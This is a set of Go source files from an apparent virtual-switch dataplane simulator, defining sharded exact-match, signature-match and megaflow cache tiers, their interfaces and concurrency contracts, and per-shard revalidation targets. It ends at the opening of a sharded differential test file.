	// batch's separate compaction scratch, so Key(i) stays frame-aligned),
	// classify it, and scatter the decisions back to input order.
	vkeys := fb.compactValid(keys, errs)
	fb.vout = GrowDecisions(fb.vout, len(vkeys))
	s.processFrameKeys(now, vkeys, fb.vout)
	for j, i := range fb.validIdx {
		out[i] = fb.vout[j]
		s.accountTx(fb.InPorts[i], len(fb.Frames[i]), fb.vout[j])
	}
	return out
}

// processFrameKeys runs the extracted keys of a frame burst through the
// batched tier walk, computing the burst's flow hashes once when some tier
// consumes them (the frame path owns the hash pass, so SMC fingerprints
// and hashed installs all reuse it).
func (s *Switch) processFrameKeys(now uint64, keys []flow.Key, out []Decision) {
	var hashes []uint64
	if s.needHashes && len(keys) > 1 {
		fb := &s.frameHash
		*fb = flow.HashKeys(keys, *fb)
		hashes = *fb
	}
	s.processBatch(now, keys, hashes, out)
}

// accountTx settles frame-level port counters for one classified frame.
func (s *Switch) accountTx(inPort uint32, frameLen int, d Decision) {
	p := s.ports[inPort]
	if p == nil {
		return
	}
	if d.Verdict.Verdict == flowtable.Allow {
		p.TxPackets++
		p.TxBytes += uint64(frameLen)
	} else {
		p.RxDropped++
	}
}
