// Sharded datapath assembly: the ConcurrentTier adapters over the
// cache package's sharded wrappers, the WithShards option that swaps
// them into the default hierarchy, and the per-shard revalidation
// targets that supersede the coarse AttachLocked mutex.
package dataplane

import (
	"fmt"

	"policyinject/internal/burst"
	"policyinject/internal/cache"
	"policyinject/internal/classifier"
	"policyinject/internal/conntrack"
	"policyinject/internal/flow"
)

// WithShards shards the default hierarchy's caches by flow hash into n
// shards (rounded to a power of two in [2, 256]; n <= 0 means
// cache.DefaultShards), making every tier a ConcurrentTier: lookups
// proceed under per-shard read locks concurrently with installs,
// evictions and revalidation on other shards (and with readers on the
// same shard). This is the multi-writer switch — the prerequisite for
// NewSharedPMDPool and for per-shard revalidator attachment
// (Switch.ShardTargets).
//
// New panics on combinations the concurrency contract cannot honour:
// WithTiers tiers that do not declare ConcurrentTier, a megaflow config
// with SortByHits (lookups would reorder the subtable vector under
// readers) or MaskEvictLRU (cross-shard LRU eviction would invert the
// shard/ledger lock order), and WithTierWrapper (fault-injection
// wrappers are not concurrency-safe and would mask the capability).
func WithShards(n int) Option {
	return func(c *config) {
		c.shards = n
		c.shardsSet = true
	}
}

// validateSharded rejects option combinations that violate the
// ConcurrentTier contract, mirroring NewPMDPool's WithTiers panic.
func validateSharded(cfg *config) {
	if cfg.tiersSet {
		for _, t := range cfg.tiers {
			if _, ok := t.(ConcurrentTier); !ok {
				panic(fmt.Sprintf("dataplane: WithShards requires every WithTiers tier to declare ConcurrentTier; %q does not", t.Name()))
			}
		}
	}
	if cfg.megaflow.SortByHits {
		panic("dataplane: WithShards is incompatible with Megaflow SortByHits (hit-count resorting races concurrent readers)")
	}
	if cfg.megaflow.MaskEvictLRU {
		panic("dataplane: WithShards is incompatible with MaskEvictLRU (cross-shard mask eviction would deadlock the shard/ledger lock order)")
	}
	if cfg.tierWrap != nil {
		panic("dataplane: WithShards is incompatible with WithTierWrapper (wrapped tiers lose the ConcurrentTier capability)")
	}
}

// ShardedEMCTier adapts cache.ShardedEMC to the Tier interface — the
// exact-match front cache of the sharded hierarchy (ConcurrentTier).
type ShardedEMCTier struct{ emc *cache.ShardedEMC }

// NewShardedEMCTier builds a sharded EMC tier with the given shard
// count (<= 0: cache.DefaultShards).
func NewShardedEMCTier(cfg cache.EMCConfig, shards int) *ShardedEMCTier {
	return &ShardedEMCTier{emc: cache.NewShardedEMC(cfg, shards)}
}

// ShardedEMC exposes the wrapped cache for inspection and experiments.
func (t *ShardedEMCTier) ShardedEMC() *cache.ShardedEMC { return t.emc }

func (t *ShardedEMCTier) Name() string     { return "emc" }
func (t *ShardedEMCTier) Path() Path       { return PathEMC }
func (t *ShardedEMCTier) ConcurrencySafe() {}

// UsesFlowHashes: the shard index is derived from the burst's cached
// flow hashes (and reused for the insert side).
func (t *ShardedEMCTier) UsesFlowHashes() {}

func (t *ShardedEMCTier) Lookup(k flow.Key, now uint64) (*cache.Entry, int, bool) {
	ent, ok := t.emc.Lookup(k, now)
	return ent, 0, ok
}

// LookupBatch resolves the burst's still-missing keys shard by shard
// under per-shard read locks.
func (t *ShardedEMCTier) LookupBatch(keys []flow.Key, hashes []uint64, now uint64, ents []*cache.Entry, _ []int, miss *burst.Bitmap) {
	if hashes == nil {
		scalarSweep(t, keys, now, ents, nil, miss)
		return
	}
	t.emc.LookupBatch(keys, hashes, now, ents, miss)
}

// AccountRun coalesces a same-flow run into n billed hits (atomic).
func (t *ShardedEMCTier) AccountRun(ent *cache.Entry, n int, _ int, now uint64) bool {
	t.emc.AccountRun(ent, n, now)
	return true
}

func (t *ShardedEMCTier) Install(k flow.Key, ent *cache.Entry) { t.emc.Insert(k, ent) }

// InstallHashed is Install reusing the burst's cached flow hash for
// shard selection.
func (t *ShardedEMCTier) InstallHashed(k flow.Key, hash uint64, ent *cache.Entry) {
	t.emc.InsertHashed(k, hash, ent)
}

func (t *ShardedEMCTier) Flush()               { t.emc.Flush() }
func (t *ShardedEMCTier) EvictIdle(uint64) int { return 0 } // stale refs invalidate lazily

func (t *ShardedEMCTier) Stats() TierStats {
	s := t.emc.Snapshot()
	return TierStats{
		Name: t.Name(), Hits: s.Hits, Misses: s.Misses,
		Inserts: s.Inserts, Evictions: s.Evictions,
		Entries: s.Entries, Capacity: s.Capacity,
	}
}

// ShardedSMCTier adapts cache.ShardedSMC to the Tier interface — the
// signature-match middle tier of the sharded hierarchy (ConcurrentTier).
type ShardedSMCTier struct{ smc *cache.ShardedSMC }

// NewShardedSMCTier builds a sharded SMC tier with the given shard
// count (<= 0: cache.DefaultShards).
func NewShardedSMCTier(cfg cache.SMCConfig, shards int) *ShardedSMCTier {
	return &ShardedSMCTier{smc: cache.NewShardedSMC(cfg, shards)}
}

// ShardedSMC exposes the wrapped cache for inspection and experiments.
func (t *ShardedSMCTier) ShardedSMC() *cache.ShardedSMC { return t.smc }

func (t *ShardedSMCTier) Name() string     { return "smc" }
func (t *ShardedSMCTier) Path() Path       { return PathSMC }
func (t *ShardedSMCTier) ConcurrencySafe() {}
func (t *ShardedSMCTier) UsesFlowHashes()  {}

func (t *ShardedSMCTier) Lookup(k flow.Key, now uint64) (*cache.Entry, int, bool) {
	ent, ok := t.smc.Lookup(k, now)
	return ent, 0, ok
}

// LookupBatch resolves the burst's still-missing keys shard by shard
// over the burst's precomputed flow hashes.
func (t *ShardedSMCTier) LookupBatch(keys []flow.Key, hashes []uint64, now uint64, ents []*cache.Entry, _ []int, miss *burst.Bitmap) {
	if hashes == nil {
		scalarSweep(t, keys, now, ents, nil, miss)
		return
	}
	t.smc.LookupBatch(keys, hashes, now, ents, miss)
}

// AccountRun coalesces a same-flow run into n billed hits (atomic).
func (t *ShardedSMCTier) AccountRun(ent *cache.Entry, n int, _ int, now uint64) bool {
	t.smc.AccountRun(ent, n, now)
	return true
}

func (t *ShardedSMCTier) Install(k flow.Key, ent *cache.Entry) { t.smc.Insert(k, ent) }

// InstallHashed is Install reusing the burst's cached flow hash (shard
// index and fingerprint both derive from it).
func (t *ShardedSMCTier) InstallHashed(k flow.Key, hash uint64, ent *cache.Entry) {
	t.smc.InsertHashed(k, hash, ent)
}

func (t *ShardedSMCTier) Flush()               { t.smc.Flush() }
func (t *ShardedSMCTier) EvictIdle(uint64) int { return 0 } // stale refs invalidate lazily

func (t *ShardedSMCTier) Stats() TierStats {
	s := t.smc.Snapshot()
	return TierStats{
		Name: t.Name(), Hits: s.Hits, Misses: s.Misses,
		Inserts: s.Inserts, Evictions: s.Evictions,
		Entries: s.Entries, Capacity: s.Capacity,
	}
}

// ShardedMegaflowTier adapts cache.ShardedMegaflow to the Tier
// interface — the authoritative tier of the sharded hierarchy
// (ConcurrentTier, HashedMegaflowInstaller).
type ShardedMegaflowTier struct{ sm *cache.ShardedMegaflow }

// NewShardedMegaflowTier builds a sharded megaflow tier with the given
// shard count (<= 0: cache.DefaultShards).
func NewShardedMegaflowTier(cfg cache.MegaflowConfig, shards int) *ShardedMegaflowTier {
	return &ShardedMegaflowTier{sm: cache.NewShardedMegaflow(cfg, shards)}
}

// ShardedMegaflow exposes the wrapped cache for inspection and
// experiments.
func (t *ShardedMegaflowTier) ShardedMegaflow() *cache.ShardedMegaflow { return t.sm }

func (t *ShardedMegaflowTier) Name() string     { return "megaflow" }
func (t *ShardedMegaflowTier) Path() Path       { return PathMegaflow }
func (t *ShardedMegaflowTier) ConcurrencySafe() {}
func (t *ShardedMegaflowTier) UsesFlowHashes()  {}

func (t *ShardedMegaflowTier) Lookup(k flow.Key, now uint64) (*cache.Entry, int, bool) {
	return t.sm.Lookup(k, now)
}

// LookupBatch runs the inverted subtable sweep shard by shard: each
// shard's read lock is taken once per burst and its subtables visited
// once over the burst's keys hashing to that shard.
func (t *ShardedMegaflowTier) LookupBatch(keys []flow.Key, hashes []uint64, now uint64, ents []*cache.Entry, costs []int, miss *burst.Bitmap) {
	t.sm.LookupBatch(keys, hashes, now, ents, costs, miss)
}

// AccountRun coalesces a same-flow run into n billed hits at the run's
// scan depth (atomic wrapper counters).
func (t *ShardedMegaflowTier) AccountRun(ent *cache.Entry, n int, cost int, now uint64) bool {
	return t.sm.AccountRun(ent, n, cost, now)
}

// Install is a no-op: the megaflow tier mints its own entries via
// InsertMegaflowHashed.
func (t *ShardedMegaflowTier) Install(flow.Key, *cache.Entry) {}

func (t *ShardedMegaflowTier) Flush()                        { t.sm.Flush() }
func (t *ShardedMegaflowTier) EvictIdle(deadline uint64) int { return t.sm.EvictIdle(deadline) }

// FlowLimit, SetFlowLimit and TrimToLimit expose the total (cross-shard)
// entry limit as the revalidator's dynamic lever (LimitedTier).
func (t *ShardedMegaflowTier) FlowLimit() int     { return t.sm.FlowLimit() }
func (t *ShardedMegaflowTier) SetFlowLimit(n int) { t.sm.SetFlowLimit(n) }
func (t *ShardedMegaflowTier) TrimToLimit() int   { return t.sm.TrimToLimit() }

// Revalidate runs the consistency pass shard by shard
// (RevalidatableTier).
func (t *ShardedMegaflowTier) Revalidate(check func(*cache.Entry) (cache.Verdict, bool)) int {
	return t.sm.Revalidate(check)
}

// InsertMegaflow installs without a key hash — correct but degraded
// (the masked-key hash only places exact-match megaflows in the shard
// their lookups probe). The switch always uses InsertMegaflowHashed.
func (t *ShardedMegaflowTier) InsertMegaflow(match flow.Match, v cache.Verdict, now uint64) (*cache.Entry, error) {
	return t.sm.Insert(match, v, now)
}

// InsertMegaflowHashed installs into the shard of the triggering key's
// flow hash (HashedMegaflowInstaller).
func (t *ShardedMegaflowTier) InsertMegaflowHashed(match flow.Match, v cache.Verdict, now uint64, keyHash uint64) (*cache.Entry, error) {
	return t.sm.InsertHashed(match, v, now, keyHash)
}

func (t *ShardedMegaflowTier) Stats() TierStats {
	s := t.sm.Snapshot()
	return TierStats{
		Name: t.Name(), Hits: s.Hits, Misses: s.Misses,
		Entries: s.Entries, Masks: s.Masks,
		SubtableVisits: s.SubtableVisits, SubtablePrunes: s.SubtablePrunes,
	}
}

// scalarSweep is the shared per-key fallback for sharded batch lookups
// driven without a hash pass (only reachable through direct tier use;
// the switch always provides hashes to HashUser tiers).
func scalarSweep(t Tier, keys []flow.Key, now uint64, ents []*cache.Entry, costs []int, miss *burst.Bitmap) {
	miss.ForEach(func(i int) {
		ent, cost, ok := t.Lookup(keys[i], now)
		if costs != nil {
			costs[i] += cost
		}
		if ok {
			ents[i] = ent
			miss.Clear(i)
		}
	})
}

// mfShardTier is one shard of a ShardedMegaflowTier viewed as a Tier:
// the unit of per-shard revalidation. Its maintenance methods (Stats,
// EvictIdle, SetFlowLimit, TrimToLimit, Revalidate, Flush) operate on
// the one shard only — a revalidator worker sweeping shard i excludes
// only that shard's readers, not the switch. SetFlowLimit receives the
// revalidator's *total* limit and takes the shard's 1/S slice. The
// lookup-side methods delegate to the whole sharded cache (a shard view
// is not a datapath tier; they exist to satisfy the interface).
type mfShardTier struct {
	sm *cache.ShardedMegaflow
	si int
}

func (t *mfShardTier) Name() string     { return fmt.Sprintf("megaflow/s%d", t.si) }
func (t *mfShardTier) Path() Path       { return PathMegaflow }
func (t *mfShardTier) ConcurrencySafe() {}

func (t *mfShardTier) Lookup(k flow.Key, now uint64) (*cache.Entry, int, bool) {
	return t.sm.Lookup(k, now)
}
func (t *mfShardTier) Install(flow.Key, *cache.Entry) {}

func (t *mfShardTier) Flush()                        { t.sm.ShardFlush(t.si) }
func (t *mfShardTier) EvictIdle(deadline uint64) int { return t.sm.ShardEvictIdle(t.si, deadline) }

func (t *mfShardTier) FlowLimit() int     { return t.sm.FlowLimit() }
func (t *mfShardTier) SetFlowLimit(n int) { t.sm.ShardSetFlowLimit(t.si, n) }
func (t *mfShardTier) TrimToLimit() int   { return t.sm.ShardTrimToLimit(t.si) }

func (t *mfShardTier) Revalidate(check func(*cache.Entry) (cache.Verdict, bool)) int {
	return t.sm.ShardRevalidate(t.si, check)
}

func (t *mfShardTier) Stats() TierStats {
	s := t.sm.ShardSnapshot(t.si)
	return TierStats{
		Name: t.Name(), Hits: s.Hits, Misses: s.Misses,
		Entries: s.Entries, Masks: s.Masks,
		SubtableVisits: s.SubtableVisits, SubtablePrunes: s.SubtablePrunes,
	}
}

// ShardTarget is one shard of a sharded switch as a revalidation
// target: revalidator.Revalidator.AttachSharded attaches each as its
// own dump shard, so workers sweep shard-by-shard — each sweep excludes
// only its shard's readers instead of serializing the whole switch
// behind one AttachLocked mutex. Shard 0's target additionally carries
// the switch's conntrack table (expired once per round) and every
// target exposes the (read-pure) slow-path classifier for the policy
// consistency pass.
type ShardTarget struct {
	name  string
	tiers []Tier
	ct    *conntrack.Table
	cls   *classifier.Classifier
}

// Name identifies the shard target ("<switch>/shard<i>").
func (t *ShardTarget) Name() string { return t.name }

// Tiers returns the shard's maintenance view (the one per-shard
// megaflow tier; reference tiers invalidate lazily and need no sweep).
func (t *ShardTarget) Tiers() []Tier { return t.tiers }

// Conntrack exposes the owning switch's connection tracker on shard 0's
// target (nil elsewhere), so a sharded attachment still expires state.
func (t *ShardTarget) Conntrack() *conntrack.Table { return t.ct }

// Classifier exposes the owning switch's slow path for the revalidator
// policy check (classification is read-pure, so concurrent shard sweeps
// may share it).
func (t *ShardTarget) Classifier() *classifier.Classifier { return t.cls }

// ShardTargets returns one revalidation target per megaflow shard, or
// nil when the hierarchy is not sharded. This is the per-shard
// attachment surface superseding revalidator.AttachLocked for sharded
// switches: pass them to revalidator.Revalidator.AttachSharded (or
// Attach each) and maintenance proceeds shard-by-shard, concurrent with
// datapath traffic, with no switch-wide lock.
func (s *Switch) ShardTargets() []*ShardTarget {
	smt := s.shardedMegaflowTier()
	if smt == nil {
		return nil
	}
	sm := smt.ShardedMegaflow()
	out := make([]*ShardTarget, sm.NumShards())
	for i := range out {
		out[i] = &ShardTarget{
			name:  fmt.Sprintf("%s/shard%d", s.name, i),
			tiers: []Tier{&mfShardTier{sm: sm, si: i}},
			cls:   s.cls,
		}
	}
	out[0].ct = s.ct
	return out
}

// shardedMegaflowTier finds the hierarchy's sharded authoritative tier,
// or nil.
func (s *Switch) shardedMegaflowTier() *ShardedMegaflowTier {
	for _, t := range s.tiers {
		if smt, ok := t.(*ShardedMegaflowTier); ok {
			return smt
		}
	}
	return nil
}

// ShardedMegaflow exposes the sharded megaflow cache for inspection and
// experiments, or nil when the hierarchy is not sharded (the sharded
// counterpart of Switch.Megaflow, which reports nil on sharded
// hierarchies).
func (s *Switch) ShardedMegaflow() *cache.ShardedMegaflow {
	if smt := s.shardedMegaflowTier(); smt != nil {
		return smt.ShardedMegaflow()
	}
	return nil
}
