package dataplane

import (
	"fmt"

	"policyinject/internal/burst"
	"policyinject/internal/cache"
	"policyinject/internal/flow"
)

// TierReader is the read side of a cache tier: the methods the packet
// walk calls on its hot path, plus the counter snapshot. On an ordinary
// Tier the reader shares the owner goroutine with the writer — reads are
// never concurrent with anything. A tier that additionally declares
// ConcurrentTier promises its reader methods (and the BatchTier /
// RunCoalescer extensions) are safe from any number of goroutines
// concurrently with its TierWriter methods.
type TierReader interface {
	// Name identifies the tier in counters and dumps ("emc", "smc",
	// "megaflow", ...).
	Name() string
	// Path is the Decision.Path value reported for hits on this tier.
	Path() Path
	// Lookup consults the tier at logical time now.
	Lookup(k flow.Key, now uint64) (ent *cache.Entry, cost int, ok bool)
	// Stats returns a snapshot of the tier's counters.
	Stats() TierStats
}

// TierWriter is the write side of a cache tier: installs from promotion
// or the slow path, and the maintenance entry points the revalidator
// drives (Flush, EvictIdle; LimitedTier and RevalidatableTier extend
// this side). On an ordinary Tier every writer call must be serialized
// with every reader call by the owning goroutine; a ConcurrentTier
// serializes internally (per-shard insert locks) and accepts writer
// calls concurrent with reader traffic.
type TierWriter interface {
	// Install caches a reference produced by a lower tier or the slow
	// path. Authoritative tiers (which mint their own entries via
	// MegaflowInstaller) may treat this as a no-op.
	Install(k flow.Key, ent *cache.Entry)
	// Flush empties the tier (policy change invalidation).
	Flush()
	// EvictIdle removes entries idle since before deadline, returning the
	// eviction count. Reference tiers that invalidate lazily return 0.
	EvictIdle(deadline uint64) int
}

// Tier is one layer of the fast-path cache hierarchy: the read side and
// the write side together. The switch walks its tiers in order on every
// packet: the first hit wins and the winning entry is promoted into
// every earlier tier, so upper tiers behave as cheap front caches for
// the authoritative megaflow store below them.
//
// The cost returned by Lookup is in "megaflow subtables visited" — the
// paper's per-packet cost metric. Exact-match tiers (EMC, SMC) cost 0;
// the TSS tier reports its scan length whether it hits or misses.
//
// Concurrency contract: a plain Tier is owned by one goroutine — the
// switch serializes TierReader and TierWriter calls, and experiments
// drive the switch like a single PMD thread. Only tiers declaring
// ConcurrentTier may be shared across goroutines; dataplane.New enforces
// the declaration for sharded hierarchies (WithShards) and
// NewSharedPMDPool for pools sharing one switch.
type Tier interface {
	TierReader
	TierWriter
}

// ConcurrentTier is the capability marking a tier safe for multi-writer
// use — the contract of the sharded wrappers:
//
//   - Lookup, LookupBatch and AccountRun may run from any number of
//     goroutines concurrently with each other AND with Install,
//     InstallHashed, InsertMegaflow(Hashed), EvictIdle, TrimToLimit,
//     SetFlowLimit, Revalidate and Flush;
//   - writer calls serialize internally (per-shard locks), so two
//     goroutines may install concurrently;
//   - Stats and Name/Path are always safe.
//
// Counter snapshots taken while traffic is in flight are coherent per
// shard, not across shards. dataplane.New panics when a WithShards
// hierarchy (or a WithTiers hierarchy combined with WithShards) contains
// a tier that does not declare this capability.
type ConcurrentTier interface {
	Tier
	// ConcurrencySafe is a marker; implementations do nothing.
	ConcurrencySafe()
}

// BatchTier is the vectorized capability of a tier: resolving a whole
// burst in one call. The switch's batched tier walk prefers it over
// per-key Lookup; tiers without it are probed key by key by the generic
// fallback, so custom WithTiers hierarchies keep working unchanged.
type BatchTier interface {
	Tier
	// LookupBatch consults the tier for every key whose index is set in
	// miss, at logical time now. A resolved key writes its entry into
	// ents[i], accumulates its scan cost into costs[i] and clears bit i;
	// an unresolved key accumulates cost and keeps its bit. hashes[i] is
	// keys[i]'s flow hash, computed once at burst entry (flow.HashKeys)
	// and reused by every hash-consuming tier. Counter effects must equal
	// the scalar Lookup sequence over the same keys — the conformance
	// suite checks exactly that.
	LookupBatch(keys []flow.Key, hashes []uint64, now uint64, ents []*cache.Entry, costs []int, miss *burst.Bitmap)
}

// HashUser marks a BatchTier whose LookupBatch consumes the burst's
// cached flow hashes. The switch pays for the batch-entry hash pass only
// when some tier declares it (or when the PMD pool already computed the
// hashes for RSS steering); a BatchTier that reads hashes without
// implementing HashUser may receive nil.
type HashUser interface {
	UsesFlowHashes()
}

// HashedInstaller is the install-side counterpart of HashUser: a tier
// whose Install can consume the burst's cached flow hash instead of
// re-hashing the key. The batched tier walk's promotion and upcall-install
// paths prefer it whenever the burst's hash pass ran; Install remains the
// scalar fallback and must have identical effects given hash ==
// k.Hash(). Declaring it also makes the switch run the batch-entry hash
// pass.
type HashedInstaller interface {
	Tier
	InstallHashed(k flow.Key, hash uint64, ent *cache.Entry)
}

// RunCoalescer is the same-flow run capability of a tier: billing n
// further hits of a key's resident entry without re-probing, which is what
// lets a burst of consecutive identical keys (an elephant-flow burst)
// collapse into one lookup plus n accountings.
type RunCoalescer interface {
	Tier
	// AccountRun bills n additional hits of ent at scan cost cost, as if
	// Lookup ran n more times at logical time now. Returns false when the
	// tier cannot coalesce exactly (the switch falls back to scalar
	// lookups for the run's remainder).
	AccountRun(ent *cache.Entry, n int, cost int, now uint64) bool
}

// LimitedTier is the capability of a tier whose entry limit can be
// adjusted at run time — the flow-limit lever the revalidator pulls when a
// dump overruns its interval. TrimToLimit evicts the stalest entries down
// to the current limit (a cut below the resident count must sweep the
// squatters out on the next dump, not just reject new inserts).
type LimitedTier interface {
	Tier
	FlowLimit() int
	SetFlowLimit(n int)
	TrimToLimit() int
}

// RevalidatableTier is the capability of a tier whose entries can be
// re-checked against the slow path: the revalidator's consistency pass.
// check returns the fresh verdict and whether the entry may stay; entries
// whose verdict changed or that must go are flushed, and the flush count
// returned.
type RevalidatableTier interface {
	Tier
	Revalidate(check func(*cache.Entry) (cache.Verdict, bool)) int
}

// MegaflowInstaller is the capability of an authoritative tier: accepting
// the wildcard megaflow the slow path synthesises on an upcall. The switch
// installs upcall results into its last MegaflowInstaller tier and
// promotes the returned entry into every tier above it.
type MegaflowInstaller interface {
	Tier
	InsertMegaflow(match flow.Match, v cache.Verdict, now uint64) (*cache.Entry, error)
}

// HashedMegaflowInstaller is the hash-aware install capability of a
// sharded authoritative tier: keyHash is the flow hash of the *key whose
// upcall synthesised the match* (not of the masked match key), which is
// what selects the shard that key's future lookups will probe. The
// switch prefers it over InsertMegaflow whenever present, computing the
// key hash if the burst's hash pass did not run.
type HashedMegaflowInstaller interface {
	MegaflowInstaller
	InsertMegaflowHashed(match flow.Match, v cache.Verdict, now uint64, keyHash uint64) (*cache.Entry, error)
}

// TierStats is a uniform counter snapshot across tier implementations.
// Snapshots are value copies assembled by the owning tier, so the
// counteratomic discipline for every field is "always plain".
//
//lint:atomiccounters
type TierStats struct {
	Name                             string
	Hits, Misses, Inserts, Evictions uint64
	Entries, Capacity                int
	Masks                            int // distinct masks, for TSS tiers (0 otherwise)

	// Staged-pruning counters of the megaflow sweep (zero unless
	// cache.MegaflowConfig.StagedPruning is enabled): subtables actually
	// probed vs rejected for free by the signature/ports prefilters.
	// Identical whether the tier is driven scalar or batched; the burst
	// count lives on cache.Megaflow.BurstSweeps.
	SubtableVisits, SubtablePrunes uint64
}

func (ts TierStats) String() string {
	s := fmt.Sprintf("%s: %d entries", ts.Name, ts.Entries)
	if ts.Capacity > 0 {
		s = fmt.Sprintf("%s: %d/%d entries", ts.Name, ts.Entries, ts.Capacity)
	}
	if ts.Masks > 0 {
		s += fmt.Sprintf(", %d masks", ts.Masks)
	}
	s += fmt.Sprintf(" (hit %d / miss %d)", ts.Hits, ts.Misses)
	if ts.SubtableVisits+ts.SubtablePrunes > 0 {
		s += fmt.Sprintf(", staged: %d visited / %d pruned",
			ts.SubtableVisits, ts.SubtablePrunes)
	}
	return s
}

// EMCTier adapts the exact-match cache to the Tier interface.
type EMCTier struct{ emc *cache.EMC }

// NewEMCTier builds an EMC tier per cfg.
func NewEMCTier(cfg cache.EMCConfig) *EMCTier { return &EMCTier{emc: cache.NewEMC(cfg)} }

// EMC exposes the wrapped cache for inspection and experiments.
func (t *EMCTier) EMC() *cache.EMC { return t.emc }

func (t *EMCTier) Name() string { return "emc" }
func (t *EMCTier) Path() Path   { return PathEMC }

func (t *EMCTier) Lookup(k flow.Key, now uint64) (*cache.Entry, int, bool) {
	ent, ok := t.emc.Lookup(k, now)
	return ent, 0, ok
}

// LookupBatch resolves the burst's still-missing keys in one pass (the
// EMC's exact-match probe needs no flow hash; the map hashes internally).
func (t *EMCTier) LookupBatch(keys []flow.Key, _ []uint64, now uint64, ents []*cache.Entry, _ []int, miss *burst.Bitmap) {
	t.emc.LookupBatch(keys, now, ents, miss)
}

// AccountRun coalesces a same-flow run into n billed hits.
func (t *EMCTier) AccountRun(ent *cache.Entry, n int, _ int, now uint64) bool {
	t.emc.AccountRun(ent, n, now)
	return true
}

func (t *EMCTier) Install(k flow.Key, ent *cache.Entry) { t.emc.Insert(k, ent) }
func (t *EMCTier) Flush()                               { t.emc.Flush() }
func (t *EMCTier) EvictIdle(uint64) int                 { return 0 } // stale refs invalidate lazily

func (t *EMCTier) Stats() TierStats {
	return TierStats{
		Name: t.Name(), Hits: t.emc.Hits, Misses: t.emc.Misses,
		Inserts: t.emc.Inserts, Evictions: t.emc.Evictions,
		Entries: t.emc.Len(), Capacity: t.emc.Cap(),
	}
}

// SMCTier adapts the signature-match cache to the Tier interface.
type SMCTier struct{ smc *cache.SMC }

// NewSMCTier builds an SMC tier per cfg.
func NewSMCTier(cfg cache.SMCConfig) *SMCTier { return &SMCTier{smc: cache.NewSMC(cfg)} }

// SMC exposes the wrapped cache for inspection and experiments.
func (t *SMCTier) SMC() *cache.SMC { return t.smc }

func (t *SMCTier) Name() string { return "smc" }
func (t *SMCTier) Path() Path   { return PathSMC }

func (t *SMCTier) Lookup(k flow.Key, now uint64) (*cache.Entry, int, bool) {
	ent, ok := t.smc.Lookup(k, now)
	return ent, 0, ok
}

// LookupBatch resolves the burst's still-missing keys in one pass over
// the burst's precomputed flow hashes.
func (t *SMCTier) LookupBatch(keys []flow.Key, hashes []uint64, now uint64, ents []*cache.Entry, _ []int, miss *burst.Bitmap) {
	t.smc.LookupBatch(keys, hashes, now, ents, miss)
}

// UsesFlowHashes declares that the SMC's batch pass consumes the cached
// burst hashes (its fingerprints are the flow hash).
func (t *SMCTier) UsesFlowHashes() {}

// AccountRun coalesces a same-flow run into n billed hits.
func (t *SMCTier) AccountRun(ent *cache.Entry, n int, _ int, now uint64) bool {
	t.smc.AccountRun(ent, n, now)
	return true
}

func (t *SMCTier) Install(k flow.Key, ent *cache.Entry) { t.smc.Insert(k, ent) }

// InstallHashed is Install reusing the burst's cached flow hash: the SMC's
// fingerprint is derived from the hash it was about to recompute, so batch
// promotions skip one Key.Hash per install.
func (t *SMCTier) InstallHashed(k flow.Key, hash uint64, ent *cache.Entry) {
	t.smc.InsertHashed(k, hash, ent)
}

func (t *SMCTier) Flush()               { t.smc.Flush() }
func (t *SMCTier) EvictIdle(uint64) int { return 0 } // stale refs invalidate lazily

func (t *SMCTier) Stats() TierStats {
	return TierStats{
		Name: t.Name(), Hits: t.smc.Hits, Misses: t.smc.Misses,
		Inserts: t.smc.Inserts, Evictions: t.smc.Evictions,
		Entries: t.smc.Len(), Capacity: t.smc.Cap(),
	}
}

// MegaflowTier adapts the TSS megaflow cache to the Tier interface. It is
// the authoritative tier: upcall results are installed here and promoted
// upward.
type MegaflowTier struct{ mfc *cache.Megaflow }

// NewMegaflowTier builds a megaflow tier per cfg.
func NewMegaflowTier(cfg cache.MegaflowConfig) *MegaflowTier {
	return &MegaflowTier{mfc: cache.NewMegaflow(cfg)}
}

// Megaflow exposes the wrapped cache for inspection and experiments.
func (t *MegaflowTier) Megaflow() *cache.Megaflow { return t.mfc }

func (t *MegaflowTier) Name() string { return "megaflow" }
func (t *MegaflowTier) Path() Path   { return PathMegaflow }

func (t *MegaflowTier) Lookup(k flow.Key, now uint64) (*cache.Entry, int, bool) {
	return t.mfc.Lookup(k, now)
}

// LookupBatch runs the inverted subtable sweep: each resident mask is
// visited once per burst instead of once per key (see
// cache.Megaflow.LookupBatch).
func (t *MegaflowTier) LookupBatch(keys []flow.Key, _ []uint64, now uint64, ents []*cache.Entry, costs []int, miss *burst.Bitmap) {
	t.mfc.LookupBatch(keys, now, ents, costs, miss)
}

// AccountRun coalesces a same-flow run into n billed hits at the run's
// scan depth; refused (false) when hit-count re-sorting is enabled.
func (t *MegaflowTier) AccountRun(ent *cache.Entry, n int, cost int, now uint64) bool {
	return t.mfc.AccountRun(ent, n, cost, now)
}

// Install is a no-op: the megaflow tier mints its own entries via
// InsertMegaflow.
func (t *MegaflowTier) Install(flow.Key, *cache.Entry) {}

func (t *MegaflowTier) Flush()                        { t.mfc.Flush() }
func (t *MegaflowTier) EvictIdle(deadline uint64) int { return t.mfc.EvictIdle(deadline) }

// FlowLimit, SetFlowLimit and TrimToLimit expose the megaflow entry limit
// as the revalidator's dynamic lever (LimitedTier).
func (t *MegaflowTier) FlowLimit() int     { return t.mfc.FlowLimit() }
func (t *MegaflowTier) SetFlowLimit(n int) { t.mfc.SetFlowLimit(n) }
func (t *MegaflowTier) TrimToLimit() int   { return t.mfc.TrimToLimit() }

// Revalidate runs the megaflow consistency pass (RevalidatableTier).
func (t *MegaflowTier) Revalidate(check func(*cache.Entry) (cache.Verdict, bool)) int {
	return t.mfc.Revalidate(check)
}

func (t *MegaflowTier) InsertMegaflow(match flow.Match, v cache.Verdict, now uint64) (*cache.Entry, error) {
	return t.mfc.Insert(match, v, now)
}

func (t *MegaflowTier) Stats() TierStats {
	return TierStats{
		Name: t.Name(), Hits: t.mfc.Hits, Misses: t.mfc.Misses,
		Entries: t.mfc.Len(), Masks: t.mfc.NumMasks(),
		SubtableVisits: t.mfc.SubtableVisits, SubtablePrunes: t.mfc.SubtablePrunes,
	}
}
