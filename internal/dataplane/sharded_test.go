package dataplane

import (
	"fmt"
	"sync"
	"testing"

	"policyinject/internal/cache"
	"policyinject/internal/conntrack"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
)

// admitAllGuard is a trivial UpcallGuard for option-validation tests.
type admitAllGuard struct{}

func (admitAllGuard) AdmitUpcall(uint64, uint32) bool { return true }

// TestShardedMatchesUnshardedDifferential drives the identical frame
